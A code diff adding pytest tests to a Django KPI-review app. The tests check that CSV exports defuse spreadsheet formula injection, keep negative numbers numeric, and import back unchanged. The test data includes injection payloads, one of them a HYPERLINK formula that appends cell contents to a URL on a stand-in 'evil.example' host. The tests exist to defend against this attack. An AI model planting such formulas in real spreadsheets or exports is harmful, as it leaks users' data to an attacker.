@@ -13,6 +13,9 @@ from partnerships.models import Activity
 from reviews import services
 from reviews.models import Measurement
 
+from ..downloads import FORMULAS, download, inert
+from ..factories import manager
+from ..objectives.factories import ObjectiveFactory
 from .conftest import months_ago
 from .factories import KPIFactory, MeasurementFactory
 
@@ -169,7 +172,7 @@ def test_the_export_lists_every_kpi_and_measurement_and_imports_back(
     response = client.get(reverse("reviews:export", args=[bobs_partnership.pk]))
     assert response["Content-Type"] == "text/csv; charset=utf-8"
     body = b"".join(response.streaming_content)
-    rows = list(csv.DictReader(io.StringIO(body.decode())))
+    rows = list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"))))
     assert [(r["KPI"], r["Period"], r["Value"], r["Attainment %"], r["Status"]) for r in rows] == [
         ("Cost per order", "", "", "", ""),
         ("On-time delivery", months_ago(2).isoformat(), "90", "50", "Watch"),
@@ -180,3 +183,125 @@ def test_the_export_lists_every_kpi_and_measurement_and_imports_back(
     Measurement.objects.all().delete()
     services.measurements_import(partnership=bobs_partnership, by=alice, data=body)
     assert Measurement.objects.count() == 2
+
+
+def _export(client, partnership) -> tuple[bytes, list[dict[str, str]]]:
+    body, rows = download(client.get(reverse("reviews:export", args=[partnership.pk])))
+    return body, [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_every_text_cell_of_the_export_that_starts_like_a_formula_comes_out_inert(
+    client, bobs_partnership, bob, formula
+):
+    kpi = KPIFactory(
+        partnership=bobs_partnership,
+        name=f"{formula} Délai",
+        unit=f"{formula[:30]} €",
+        owner=manager(full_name=f"{formula} Ömer"),
+        objective=ObjectiveFactory(partnership=bobs_partnership, title=f"{formula} Coût"),
+    )
+    MeasurementFactory(
+        kpi=kpi,
+        period=months_ago(1),
+        note=f"{formula} déjà vu",
+        recorded_by=manager(full_name=f"{formula} Zoë"),
+    )
+    client.force_login(bob)
+    _, (row,) = _export(client, bobs_partnership)
+    assert row["KPI"] == inert(f"{formula} Délai")
+    assert row["Unit"] == inert(f"{formula[:30]} €")
+    assert row["Owner"] == inert(f"{formula} Ömer")
+    assert row["Objective"] == inert(f"{formula} Coût")
+    assert row["Note"] == inert(f"{formula} déjà vu")
+    assert row["Recorded by"] == inert(f"{formula} Zoë")
+
+
+def test_negative_numbers_come_out_as_numbers_not_quoted_text(client, bobs_partnership, bob):
+    kpi = KPIFactory(
+        partnership=bobs_partnership,
+        name="Net margin",
+        unit="pts",
+        baseline=D("-10"),
+        target=D("0"),
+        red_flag=D("-8"),
+    )
+    MeasurementFactory(kpi=kpi, period=months_ago(2), value=D("-12"))
+    MeasurementFactory(kpi=kpi, period=months_ago(1), value=D("-3.5"))
+    client.force_login(bob)
+    _, rows = _export(client, bobs_partnership)
+    numbers = ("Baseline", "Target", "Red-flag threshold", "Value", "Attainment %")
+    assert [tuple(r[c] for c in numbers) for r in rows] == [
+        ("-10", "0", "-8", "-12", "-20"),
+        ("-10", "0", "-8", "-3.5", "65"),
+    ]
+
+
+def test_an_export_imports_back_to_the_same_values_formulas_and_all(
+    client, bobs_partnership, bob, alice
+):
+    margin = KPIFactory(
+        partnership=bobs_partnership,
+        name="=Net margin",
+        unit="-pts",
+        baseline=D("-10"),
+        target=D("0"),
+        red_flag=D("-8"),
+    )
+    delivery = KPIFactory(partnership=bobs_partnership, name="@Délai de livraison")
+    plain = KPIFactory(partnership=bobs_partnership, name="Coût par commande")
+    notes = [
+        "=SUM(A1:A9)",
+        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+        "+1",
+        "-3.5",
+        "@here",
+        "\t=1+1",
+        "\r=1+1",
+        "'=already quoted by hand",
+        "'Tis déjà vu, ça",
+        "",
+    ]
+    values = [D("-3.5"), D("-12"), D("0"), D("97.25"), D("-0.0001")]
+    for i, note in enumerate(notes):
+        kpi = [margin, delivery][i % 2]
+        MeasurementFactory(kpi=kpi, period=months_ago(i // 2 + 1), value=values[i % 5], note=note)
+    MeasurementFactory(kpi=plain, period=months_ago(1), value=D("-1"), note="plain")
+
+    def measurements() -> list[tuple]:
+        return sorted(
+            Measurement.objects.filter(kpi__partnership=bobs_partnership).values_list(
+                "kpi__name", "period", "value", "note"
+            )
+        )
+
+    before = measurements()
+    client.force_login(bob)
+    body, rows = _export(client, bobs_partnership)
+    assert {r["Note"] for r in rows} >= {"'=SUM(A1:A9)", "'-3.5", "''=already quoted by hand"}
+    assert {r["Value"] for r in rows} == {"-3.5", "-12", "0", "97.25", "-0.0001", "-1"}
+    Measurement.objects.all().delete()
+
+    created = services.measurements_import(partnership=bobs_partnership, by=alice, data=body)
+
+    assert len(created) == len(before) == 11
+    assert measurements() == before
+    assert Measurement.objects.get(kpi=margin, period=months_ago(1)).value == D("-3.5")
+    assert Measurement.objects.get(kpi=margin, period=months_ago(1)).note == "=SUM(A1:A9)"
+
+
+def test_the_import_takes_one_quote_off_only_before_a_formula_character(
+    bobs_partnership, bob, kpis
+):
+    data = csv_bytes(
+        "KPI,Period,Value,Note",
+        f"On-time delivery,{months_ago(3):%Y-%m},'-3.5,'=A1",
+        f"On-time delivery,{months_ago(2):%Y-%m},90,'Tis so",
+        f"On-time delivery,{months_ago(1):%Y-%m},91,''@twice",
+    )
+    services.measurements_import(partnership=bobs_partnership, by=bob, data=data)
+    assert list(Measurement.objects.order_by("period").values_list("value", "note")) == [
+        (D("-3.5"), "=A1"),
+        (D("90"), "'Tis so"),
+        (D("91"), "'@twice"),
+    ]
